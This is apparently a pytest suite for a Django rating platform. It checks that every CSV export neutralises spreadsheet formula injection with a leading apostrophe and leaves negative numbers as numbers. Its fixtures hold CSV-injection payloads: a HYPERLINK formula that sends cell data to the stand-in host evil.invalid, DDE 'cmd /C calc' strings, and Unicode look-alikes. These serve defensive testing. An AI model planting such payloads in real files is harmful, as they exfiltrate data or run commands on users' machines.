"""No CSV export hands a spreadsheet a formula: text cells starting with =, +, -, @, tab or CR get a
leading apostrophe, plain numbers (a preference of -2) stay numbers.

Every CSV the platform writes (ratings, per-item means, consensus labels), from the report page's
downloads and from the API, with a formula payload in every text column that holds imported or typed
text: item id, model name(s), rater name, justification, free-text score, reference answer, level
labels of the rubric.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from evalplatform.projects.services import create_project, import_items
from evalplatform.quality.services import compute_quality
from evalplatform.ratings.importing import import_ratings
from rubrics.services import import_rubric

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r")
RUBRIC = {
    "slug": "formulas", "name": "Formulas",
    "dimensions": [
        {"key": "accuracy", "kind": "likert", "min": 1, "max": 5, "required": True,
         "levels": {str(v): f"=LABEL{v}()" for v in range(1, 6)}},
        {"key": "why", "kind": "text", "required": False},
    ],
}
PAIR_RUBRIC = {"slug": "formula-pairs", "name": "Pairs", "dimensions": [
    {"key": "preference", "kind": "pairwise", "points": 5, "required": True}]}


def formula(i: int, suffix: str = "") -> str:
    """The i-th payload; ids and names are stripped on import, so theirs avoid the whitespace ones."""
    return FORMULAS[i % len(FORMULAS)] + suffix


def jsonl(records) -> io.BytesIO:
    return io.BytesIO("\n".join(json.dumps(r) for r in records).encode())


@pytest.fixture
def single(lead):
    version, _ = import_rubric(data=RUBRIC)
    project = create_project(slug="formulas", rubric_version=version, overlap=3, created_by=lead)
    ids = [formula(i % 4, f" item {i}") for i in range(6)]
    models = [formula(i % 4 + 1, f" model {i}") for i in range(6)]
    import_items(project=project, stream=jsonl(
        {"id": ids[i], "prompt": formula(i), "reference": formula(i + 2),
         "responses": [{"model": models[i], "text": formula(i + 3)}]} for i in range(6)), fmt="jsonl")
    # Rater names follow the username rule (no "=" or spaces): the formula signs it allows.
    raters = [f"{'+-@'[k]}rater{k}" for k in range(3)]
    import_ratings(project=project, fmt="jsonl", stream=jsonl(
        {"item_id": ids[i], "model": models[i], "rater": raters[k], "dimension": dim, "value": value,
         "justification": formula(i + k)}
        for i in range(6) for k in range(3)
        for dim, value in (("accuracy", 1 + (i + k) % 5), ("why", formula(i + k + 1)))), create_raters=True)
    compute_quality(project=project)
    return project


@pytest.fixture
def pairwise(lead):
    version, _ = import_rubric(data=PAIR_RUBRIC)
    project = create_project(slug="formula-pairs", rubric_version=version, overlap=3, kind="pairwise",
                             created_by=lead)
    import_items(project=project, fmt="jsonl", stream=jsonl(
        {"id": formula(i, f" pair {i}"), "prompt": "p", "responses": [
            {"model": "-m1", "text": "a"}, {"model": "=m2", "text": "b"}]} for i in range(4)))
    import_ratings(project=project, fmt="jsonl", stream=jsonl(
        {"item_id": formula(i, f" pair {i}"), "model_a": "-m1", "model_b": "=m2", "rater": f"r{k}",
         "dimension": "preference", "value": -2 + (i + k) % 5} for i in range(4) for k in range(3)), create_raters=True)
    compute_quality(project=project)
    return project


def downloads(project) -> dict[str, str]:
    """Every CSV of the project, from the report page's links and from the API."""
    page = Client()
    page.force_login(project.created_by)
    api = Client()
    api.force_login(project.created_by)
    out = {}
    for fmt in ("csv", "items-csv", "consensus-csv"):
        response = page.get(reverse("report-export", args=[project.slug, fmt]))
        assert response.status_code == 200, (fmt, response.content)
        out[f"page {fmt}"] = b"".join(response.streaming_content).decode()
    for fmt in ("csv", "consensus-csv"):
        response = api.get(f"/api/projects/{project.pk}/export/", {"format": fmt})
        assert response.status_code == 200
        out[f"api {fmt}"] = b"".join(response.streaming_content).decode()
    return out


def cells(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader.fieldnames or []), list(reader)


def assert_no_formula(name: str, text: str) -> list[str]:
    """Every cell is safe; returns the columns in which a neutralised payload was found."""
    _, rows = cells(text)
    assert rows, name
    neutralised = set()
    for row in rows:
        for column, value in row.items():
            if value.startswith(STARTS):
                assert _is_number(value), f"{name}: {column} = {value!r} would run as a formula"
            if value.startswith("'") and value[1:].startswith(STARTS):
                neutralised.add(column)
    return sorted(neutralised)


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_every_text_column_of_every_csv_is_neutralised(single):
    exports = downloads(single)
    expected = {
        "csv": ["item_id", "justification", "model", "rater", "reference", "value", "value_label"],
        "items-csv": ["item_id", "model"],
        "consensus-csv": ["item_id", "model", "value_label"],
    }
    for name, text in exports.items():
        columns = assert_no_formula(name, text)
        assert columns == expected[name.split()[1]], name


def test_a_payload_keeps_its_text_after_the_apostrophe(single):
    _, rows = cells(downloads(single)["page csv"])
    assert "'" + FORMULAS[0] in {row["justification"] for row in rows}
    # Imported names and justifications are stripped; free text and references keep a leading tab or CR.
    for column in ("value", "reference"):
        kept = {row[column] for row in rows}
        assert "'\t=1+1" in kept, column
        assert "'\r=1+1" in kept, column


def test_negative_numbers_stay_numbers(pairwise):
    exports = downloads(pairwise)
    for name, text in exports.items():
        columns = assert_no_formula(name, text)
        assert "model_a" in columns, name  # "-m1" and "=m2" are text
        assert "model_b" in columns, name
    _, rows = cells(exports["page csv"])
    values = {row["value"] for row in rows}
    assert {"-2", "-1"} <= values  # preferences for model_a: numbers, untouched
    _, items = cells(exports["page items-csv"])
    assert any(row["mean"].startswith("-") for row in items) or any(row["min"] == "-2" for row in items)


def test_the_header_row_is_plain(single):
    header, _ = cells(downloads(single)["page csv"])
    assert header[0] == "item_id"
    assert not any(h.startswith(("'", *STARTS)) for h in header)


def test_the_command_line_export_is_neutralised_too(single, tmp_path):
    from django.core.management import call_command

    out = tmp_path / "ratings.csv"
    call_command("export", project=single.slug, format="csv", output=str(out))
    with out.open(newline="") as handle:
        assert assert_no_formula("manage.py export", handle.read())



LOOK_ALIKES = (
    "＝HYPERLINK(\"http://evil.invalid\",\"x\")",  # full-width equals
    "＋1+cmd|' /C calc'!A0", "－2+cmd|' /C calc'!A0", "＠SUM(1)",  # full-width plus, minus, at
    "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1)",  # small forms
    "−1+cmd|' /C calc'!A0",  # the minus sign
    "  =1+1", "\u3000＝1+1", "\n=1+1",  # after blanks, and a line feed
)


@pytest.mark.parametrize("payload", LOOK_ALIKES)
def test_unicode_look_alikes_of_formula_signs_are_neutralised(payload):
    from evalplatform.exporting import safe_cell

    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("plain", ["-2", "+3", "1e5", "hello = world", "Ｈello", "ok－"])
def test_plain_text_and_numbers_are_left_alone(plain):
    from evalplatform.exporting import safe_cell

    assert safe_cell(plain) == plain


def test_a_full_width_formula_in_a_justification_is_neutralised_in_the_export(single):
    from evalplatform.ratings.models import Rating

    Rating.objects.filter(project=single).update(justification="＝HYPERLINK(\"http://evil.invalid\",\"x\")")
    _, rows = cells(downloads(single)["page csv"])
    assert {row["justification"] for row in rows} == {"'＝HYPERLINK(\"http://evil.invalid\",\"x\")"}
